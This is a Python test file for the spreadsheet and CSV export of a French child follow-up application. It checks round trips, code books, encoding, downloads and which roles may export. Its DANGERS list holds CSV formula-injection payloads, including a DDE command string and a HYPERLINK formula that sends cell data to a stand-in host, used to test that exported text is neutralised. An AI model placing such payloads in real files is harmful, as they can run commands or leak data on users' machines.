"""What goes out opens anywhere, holds no formula, and comes back the same."""

import csv
import io
import zipfile
from collections.abc import Callable
from datetime import date
from decimal import Decimal
from typing import Any

import pytest
from openpyxl import load_workbook

from impact.accounts.access import FieldClass
from impact.audit import Actor
from impact.db import EncryptedDatabase
from impact.instance import Instance
from impact.pathways.pathway_storage import add_note
from impact.pathways.records import Note
from impact.pathways.vocabulary import ContactKind
from impact.sheets import importing
from impact.sheets.code_book import TABLES
from impact.sheets.export_storage import every_table, follow_up_table
from impact.sheets.known_storage import list_follow_ups
from impact.sheets.reading import read_sheets
from impact.sheets.staging_storage import get_import, save_plan, stage
from impact.sheets.workbook import SEPARATORS, to_csv, to_xlsx
from tests.impact.sheets.table import staged

TODAY = date(2026, 11, 20)
URL = "/communautes/pre-demonstration/tableaux/"
DANGERS = ["=cmd|'/C calc'!A0", "+33612345678", "-2+3", "@SUM(1)", '=HYPERLINK("http://x/?"&A1,"clic")']
Child = Callable[..., int]
Browse = Callable[[str | None], Any]


@pytest.fixture
def filled(db: EncryptedDatabase, amina: Actor) -> EncryptedDatabase:
    """The reference table, imported."""
    received, plan = staged(db, amina, TODAY)
    save_plan(db, amina, received.id, plan, received.version)
    importing.carry_out(db, amina, received.id, TODAY)
    return db


def written(db: EncryptedDatabase, actor: Actor, content: bytes) -> Any:
    """What an import of this file would do, everything taken as proposed."""
    received = get_import(db, stage(db, actor, "export", read_sheets(content)))
    plan = importing.propose(db, received, importing.propose_place(received.sheets, TODAY), TODAY)
    return importing.prepare(db, received, plan, {}, TODAY)


@pytest.mark.whole
@pytest.mark.parametrize("shape", ["xlsx", *SEPARATORS])
def test_the_table_comes_back_the_same(filled: EncryptedDatabase, place: Instance, amina: Actor, shape: str) -> None:
    table = follow_up_table(filled, amina)
    content = to_xlsx([table]) if shape == "xlsx" else to_csv(table, SEPARATORS[shape])
    again = written(filled, amina, content)
    assert (again.entries, again.refused) == ((), [])
    assert len(again.present) == 281
    assert [each for each in again.present if each.differences] == []
    elsewhere = place.community("essonne")
    away = written(elsewhere, amina, content)
    elsewhere.close()
    there = [row for _, row in list_follow_ups(filled).values()]
    assert (len(away.entries), away.children, away.refused) == (281, 265, [])
    assert [entry.follow_up for entry in away.entries] == there


def test_the_whole_export_has_its_code_book_and_opens_what_is_sealed(
    db: EncryptedDatabase, amina: Actor, followed: Child
) -> None:
    situation = followed(scope=(FieldClass.SCHOOL, FieldClass.HEALTH))
    note = Note(TODAY, ContactKind.CALL, 10, None, FieldClass.HEALTH, "Rendez-vous pris.", "Avance.")
    add_note(db, amina, situation, note, TODAY)
    tables = {title: (headings, rows) for title, headings, rows in every_table(db, amina, codes=False)}
    assert list(tables) == [*(table.title for table in TABLES), "Dictionnaire"]
    headings, rows = tables["Notes"]
    told = dict(zip(headings, rows[0], strict=True))
    assert (told["Ce qui est observé"], told["Moyen"], told["Contact le"]) == ("Rendez-vous pris.", "Appel", TODAY)
    coded = {title: rows for title, _, rows in every_table(db, amina, codes=True)}
    assert coded["Notes"][0][headings.index("Moyen")] == "call"
    assert ("Notes", "Moyen", "code", "call", "Appel") in tables["Dictionnaire"][1]
    exported = "SELECT count(*) FROM audit_entry WHERE deed = 'export' AND object_kind = 'situation' AND object_id = ?"
    assert db.value(exported, (situation,)) == 2


@pytest.mark.parametrize("danger", [*DANGERS, "\t=1+1"])
def test_a_text_is_never_a_formula(danger: str) -> None:
    table = ("Suivi", ["Observations", "Heures"], [[danger, Decimal("-2.5")]])
    cell = load_workbook(io.BytesIO(to_xlsx([table]))).worksheets[0]["A2"]
    assert (cell.data_type, cell.value) == ("s", danger.strip())
    text = to_csv(table).decode("utf-8-sig")
    row = list(csv.reader(io.StringIO(text), delimiter=";"))[1]
    assert row == [f"'{danger.strip()}", "-2,5"]
    assert read_sheets(to_csv(table))[0][1][1] == [danger.strip(), "-2,5"]


def test_accents_open_right_in_a_french_spreadsheet() -> None:
    assert to_csv(("Suivi", ["Né(e) le"], [["Élodie"]])).startswith(b"\xef\xbb\xbf")


def test_the_pages_send_files(browse: Browse, filled: EncryptedDatabase) -> None:
    amina = browse("amina")
    page = amina.get(URL)
    assert "Exporter" in page
    table = amina.send(URL, {"content": "table", "shape": "xlsx"})
    assert "suivi-pre-demonstration-2026-11-20.xlsx" in table.headers["Content-Disposition"]
    assert load_workbook(io.BytesIO(table.data)).worksheets[0].max_row == 282
    texts = amina.send(URL, {"content": "table", "shape": "csv", "separator": "tab", "decimal": "."})
    assert texts.data.count(b"\t") > 5_000
    whole = amina.send(URL, {"content": "all", "shape": "csv", "separator": "comma", "words": "codes"})
    names = zipfile.ZipFile(io.BytesIO(whole.data)).namelist()
    assert "dictionnaire.csv" in names
    assert len(names) == len(TABLES) + 1


def test_a_wrong_format_is_explained(browse: Browse) -> None:
    answer = browse("amina").send(URL, {"content": "table", "shape": "exe"})
    assert answer.status_code == 200
    assert "Choisissez une réponse de la liste." in answer.text


def test_an_archived_child_stays_aside(filled: EncryptedDatabase, amina: Actor) -> None:
    filled.execute("INSERT INTO child_archive VALUES (1, '2026-11-01', '2031-11-01', 'Fin de suivi')")
    assert len(follow_up_table(filled, amina)[2]) < 281
    assert all(row[0] != 1 for row in every_table(filled, amina, codes=False)[0][2])


@pytest.mark.parametrize(("persona", "status"), [("basile", 403), ("denis", 403), ("elodie", 403), ("chloe", 404)])
def test_only_the_coordination_exports(browse: Browse, persona: str, status: int) -> None:
    browse(persona).get(URL, status)
    assert browse(None).client.get(URL).status_code == 302
